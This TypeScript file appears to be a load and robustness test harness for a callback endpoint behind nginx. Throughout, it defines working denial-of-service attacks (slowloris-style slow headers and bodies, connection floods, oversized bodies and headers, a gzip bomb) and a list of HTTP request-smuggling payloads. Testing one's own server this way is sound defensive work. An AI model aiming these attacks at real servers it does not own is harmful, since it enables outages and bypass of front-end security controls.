import { setPriority } from "node:os";
import { gzipSync } from "node:zlib";
import { attackerSocket, type Target } from "./nginx.ts";

const MIB = 1024 ** 2;
const DRIP_MS = 50;

/** Goes on for as long as its process lives. */
type Attack = (target: Target) => void;

/** Keeps so many connections open, each of which sends the bytes and then a drop every 50 ms. */
const keepSending =
  (connections: number, bytes: string | Buffer, drop = ""): Attack =>
  (target) => {
    const open = () => {
      const socket = attackerSocket(target).resume();
      socket.write(bytes);
      const drip = drop === "" ? undefined : setInterval(() => socket.write(drop), DRIP_MS);
      socket.once("close", () => {
        clearInterval(drip);
        setTimeout(open, 20);
      });
    };
    for (let n = 0; n < connections; n += 1) open();
  };

/** So many requests a second, over connections that are kept where the target keeps them. */
const atRate =
  (perSecond: number, bytes: string | Buffer): Attack =>
  (target) => {
    const connections = 50;
    for (let n = 0; n < connections; n += 1) {
      let socket = attackerSocket(target).resume();
      setInterval(
        () => {
          if (!socket.writable) socket = attackerSocket(target).resume();
          socket.write(bytes);
        },
        (1_000 * connections) / perSecond,
      );
    }
  };

/** Stands in the path of each request that is hidden in another's body. */
export const HIDDEN = "smuggled";

/** The bytes of connections: by one reading a body holds the hidden request, by another it follows. */
function smuggling(path: string): string[] {
  const hidden = `POST ${path}/${HIDDEN} HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}\r\n`;
  const framed = (headers: string, body: string, to = path) =>
    `POST ${to} HTTP/1.1\r\nHost: x\r\n${headers.replaceAll("LENGTH", String(body.length))}\r\n\r\n${body}`;
  const size = (text: string) => text.length.toString(16);
  const behindLastChunk = `0\r\n\r\n${hidden}`;
  const insideChunk = `${size(hidden)}\r\n${hidden}\r\n0\r\n\r\n`;
  const oddChunk = (before: string) => `${before}${size(behindLastChunk)}\r\n${behindLastChunk}\r\n0\r\n\r\n`;
  return [
    // Codings that only one of two takes for chunked, beside a length.
    ...[
      "Transfer-Encoding: chunked",
      "Transfer-Encoding: xchunked",
      "Transfer-Encoding : chunked",
      "Transfer-Encoding: \x0bchunked",
      "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
      "Transfer_Encoding: chunked",
      "Transfer-Encoding:\r\n chunked",
      "X: a\nTransfer-Encoding: chunked",
      "X: a\0\r\nTransfer-Encoding: chunked",
      "Connection: close, Content-Length\r\nTransfer-Encoding: chunked",
    ].map((headers) => framed(`Content-Length: LENGTH\r\n${headers}`, behindLastChunk)),
    ...["Content-Length: 4", "Content-Length : 4", "X: a\nContent-Length: 4", "Content-Length: 0"].map(
      (length) => framed(`Transfer-Encoding: chunked\r\n${length}`, insideChunk),
    ),
    ...[
      "Content-Length: LENGTH\r\nContent-Length: 0",
      "Content-Length: LENGTH, 0",
      "Content-Length: +LENGTH",
      "Content-Length: LENGTH\r\nX: a\nContent-Length: 0",
      "Content-Length: LENGTH\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk",
      "Content-Length: LENGTH\r\nExpect: 100-continue",
    ].map((headers) => framed(headers, hidden)),
    ...[
      "2;\nxx\r\n",
      "0x2\r\nxx\r\n",
      "+2\r\nxx\r\n",
      "2 \r\nxx\r\n",
      "2\nxx\r\n",
      `1${"0".repeat(16)}\r\n`,
    ].map((before) => framed("Transfer-Encoding: chunked", oddChunk(before))),
  ];
}

export function attacksOn(token: string): Record<string, Attack> {
  const path = `/callbacks/${token}`;
  const get = (to: string) => `GET ${to} HTTP/1.1\r\nHost: x\r\n\r\n`;
  const post = (headers: string) => `POST ${path} HTTP/1.1\r\nHost: x\r\n${headers}\r\n`;
  const chunked = post("Transfer-Encoding: chunked\r\n");
  const bomb = gzipSync(Buffer.alloc(64 * MIB));
  const bombed = post(`Content-Encoding: gzip\r\nContent-Length: ${bomb.length}\r\n`);
  const large = post(`Content-Length: ${10 * MIB}\r\n`);
  const open = get(path).slice(0, -2);
  return {
    "3,000 callbacks at once on each of 40 connections": keepSending(40, get(path).repeat(3_000)),
    "15 MiB in chunks of one byte": keepSending(20, chunked + "1\r\na\r\n".repeat((15 * MIB) / 6)),
    "200 silent connections": keepSending(200, ""),
    "200 heads that never end": keepSending(200, `${open}X-Slow: `, "a"),
    "200 bodies drop by drop": keepSending(200, post("Content-Length: 100000\r\n"), "a"),
    "200 bodies chunk by chunk": keepSending(200, chunked, "1\r\na\r\n"),
    "10 MiB bodies": keepSending(20, Buffer.concat([Buffer.from(large), Buffer.alloc(10 * MIB, "a")])),
    "gzip bombs": atRate(500, Buffer.concat([Buffer.from(bombed), bomb])),
    "10,000 headers": keepSending(50, open + "X-A: b\r\n".repeat(10_000)),
    "a header of 1 MiB": keepSending(50, `${open}X-A: ${"b".repeat(MIB)}\r\n\r\n`),
    smuggling: (target) => {
      for (const form of smuggling(path)) keepSending(1, form)(target);
    },
    "2,000 wrong tokens a second": atRate(2_000, get("/callbacks/wrong")),
  };
}

// A process of its own, which its parent ends: `attacks.ts <target as JSON> <token> <attack>`.
if (import.meta.main) {
  // The attackers' own work is not to take the processor from the attacked.
  setPriority(19);
  const [, , target = "", token = "", name = ""] = process.argv;
  attacksOn(token)[name]?.(JSON.parse(target));
}
